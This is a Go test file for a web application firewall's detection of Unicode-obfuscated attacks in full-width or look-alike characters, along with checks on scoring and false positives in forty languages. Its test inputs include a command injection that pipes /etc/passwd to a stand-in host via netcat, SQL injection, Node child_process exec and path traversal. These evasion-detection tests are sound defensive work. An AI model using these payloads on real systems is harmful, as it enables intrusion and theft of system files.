package waf_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/merlon-security/merlon/internal/event"
	"github.com/merlon-security/merlon/internal/verdict"
)

// wide writes the signs of an attack in full width, as an attacker does whose
// input is normalised after the filter.
func wide(s string) string {
	return strings.Map(func(r rune) rune {
		if strings.ContainsRune(`<>'"`+"`"+`;|&$(){}[]=/\*%#@!`, r) {
			return r + 0xfee0
		}
		return r
	}, s)
}

// TestC2UnicodeFolds covers attacks that are none until a framework or a
// database folds them to ASCII.
func TestC2UnicodeFolds(t *testing.T) {
	t.Parallel()
	const shell = "x; cat /etc/passwd | nc 198.51.100.1 4444"
	prime := strings.NewReplacer("'", "\u02b9").Replace
	tests := []struct {
		name  string
		event any
		rule  int
		path  string
	}{
		{"script", object{"c": wide(xss)}, 941110, "c"},
		{"SQL with full-width quotes", object{"c": wide(sqli)}, 9100808, "c"},
		{"SQL with primes", object{"c": prime("1' and sleep(5)-- ")}, 9100806, "c"},
		{"shell", object{"c": wide(shell)}, 9100400, "c"},
		{"Node in mathematical letters", object{"c": "𝐫𝐞𝐪𝐮𝐢𝐫𝐞('𝔠𝔥𝔦𝔩𝔡_𝔭𝔯𝔬𝔠𝔢𝔰𝔰').ᵉxec('id')"}, 9100501, "c"},
		{"dots and slashes", object{"c": "․․⁄‥∕‥／etc／passwd"}, 9100208, "c"},
		{"operator in a key", object{"filter": object{"＄ne": 1}}, 9100700, `filter["\uff04ne"]`},
		{"escaped in JSON in a body", request(object{"body": `{"c":"x\uff1b cat \uff0fetc\uff0fpasswd"}`}), 9100400, "body.c"},
		{"query", request(object{"rawQueryString": "c=" + strings.NewReplacer(" ", "+").Replace(wide(shell))}), 9100400, "rawQueryString.c"},
		{"percent-encoded cookie", request(object{"cookies": []string{"s=x%EF%BC%9B%20cat%20%EF%BC%8Fetc%EF%BC%8Fpasswd"}}), 9100400, "cookies[0].s"},
		{"percent-encoded path", request(object{"rawPath": "/a/x%EF%BC%9B%20cat%20%EF%BC%8Fetc%EF%BC%8Fpasswd"}), 9100400, "rawPath"},
		{"header", headers("referer", "https://a/?"+wide(xss)), 941110, "headers.referer"},
		{"base64 in a record", object{"Records": []any{object{"eventSource": "aws:kinesis", "kinesis": object{"data": base64.StdEncoding.EncodeToString([]byte(wide(shell)))}}}}, 9100400, "Records[0].kinesis.data"},
	}
	e := build(t, screened)
	for _, tt := range tests {
		res, err := e.Inspect(context.Background(), decode(t, tt.event))
		if err != nil {
			t.Fatal(err)
		}
		at := func(f verdict.Finding) bool { return f.RuleID == tt.rule && f.Path.String() == tt.path && !f.Ambiguous }
		if !slices.ContainsFunc(res.Findings, at) {
			t.Errorf("%s: no finding of %d at %s:\n%s", tt.name, tt.rule, tt.path, list(res.Findings))
		}
	}
}

// TestC2FoldsCountOnce compares attacks behind a sign that folds with the same
// behind one that does not: what a rule matches in both views is one match.
func TestC2FoldsCountOnce(t *testing.T) {
	t.Parallel()
	const folds, stays = "…", "•" // both become a dot in Coraza's own transformations
	e := build(t, screened)
	score := func(members object) int {
		res, err := e.Inspect(context.Background(), decode(t, members))
		if err != nil {
			t.Fatal(err)
		}
		sum := 0
		for _, f := range res.Findings {
			sum += f.Score
		}
		if sum != res.Scores[0] {
			t.Errorf("%v: findings of %d, score %d", members, sum, res.Scores[0])
		}
		return res.Scores[0]
	}
	scored := 0
	for _, attack := range []string{sqli, xss, "x; cat /etc/passwd", "../../../etc/passwd, ", "require('child_process').exec('id')"} {
		for name, members := range map[string]func(sign string) object{
			"once":         func(sign string) object { return object{"c": attack + sign} },
			"as two names": func(sign string) object { return object{"c": attack + sign, "d": attack + sign + "x"} },
			"in one array": func(sign string) object { return object{"c": []string{attack + sign, "x" + attack + sign}} },
			"as a name":    func(sign string) object { return object{attack + sign: 1} },
			"in a header":  func(sign string) object { return headers("referer", "https://a/?"+attack+sign) },
			"in the query": func(sign string) object {
				return request(object{"rawQueryString": "q=" + url.QueryEscape(attack+sign)})
			},
			"beside benign":  func(sign string) object { return object{"a": sign, "c": attack} },
			"with its views": func(sign string) object { return object{"c": url.QueryEscape(attack + sign)} },
		} {
			got, want := score(members(folds)), score(members(stays))
			if got != want {
				t.Errorf("%s %s scores %d with a sign that folds, %d without", attack, name, got, want)
			}
			scored += min(want, 1)
		}
	}
	if scored < 35 {
		t.Errorf("%d of 40 attacks score: the comparison has no power", scored)
	}
}

// TestC2LanguagesAreBenign is the price of the second view: none, in texts of
// forty languages that all have one.
func TestC2LanguagesAreBenign(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("testdata/languages.txt")
	if err != nil {
		t.Fatal(err)
	}
	e := build(t, screened)
	languages, texts, views := map[string]bool{}, 0, 0
	for line := range strings.Lines(string(data)) {
		language, text, ok := strings.Cut(strings.TrimSpace(line), "\t")
		if !ok {
			continue
		}
		languages[language] = true
		texts++
		for _, ev := range []any{
			object{"text": text},
			request(object{"body": `{"comment":` + quote(t, text) + `}`, "headers": object{"host": "h", "user-agent": "Mozilla/5.0", "accept": "*/*", "content-type": "application/json"}}),
			request(object{"rawQueryString": "q=" + url.QueryEscape(text)}),
			request(object{"rawPath": "/articles/" + url.PathEscape(text)}),
			object{"Records": []any{object{"eventSource": "aws:sqs", "body": text}}},
		} {
			decoded := decode(t, ev)
			res, err := e.Inspect(context.Background(), decoded)
			if err != nil {
				t.Fatal(err)
			}
			if slices.ContainsFunc(decoded.Leaves, func(l event.Leaf) bool { return l.Folded }) {
				views++
			}
			if len(res.Findings) > 0 {
				t.Errorf("%s: %s\n%s", language, text, list(res.Findings))
			}
		}
	}
	if len(languages) < 40 || texts < 60 || views < 4*texts {
		t.Errorf("%d texts in %d languages, %d views: want at least 60, 40, four for each text", texts, len(languages), views)
	}
}

func quote(t *testing.T, s string) string {
	t.Helper()
	q, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(q)
}

// TestViewsOfOneValueAreOnePlace: an exception for a path covers a finding in
// any reading of what stands there.
func TestViewsOfOneValueAreOnePlace(t *testing.T) {
	t.Parallel()
	res, err := build(t, screened).Inspect(context.Background(), decode(t, object{"c": url.QueryEscape(xss)}))
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, f := range res.Findings {
		if f.Ambiguous || f.Path.String() != "c" {
			t.Errorf("%d at %s, ambiguous %v: want c and nothing else", f.RuleID, f.Path, f.Ambiguous)
		}
		found++
	}
	if found < 4 {
		t.Errorf("%d findings, want those of both readings", found)
	}
}
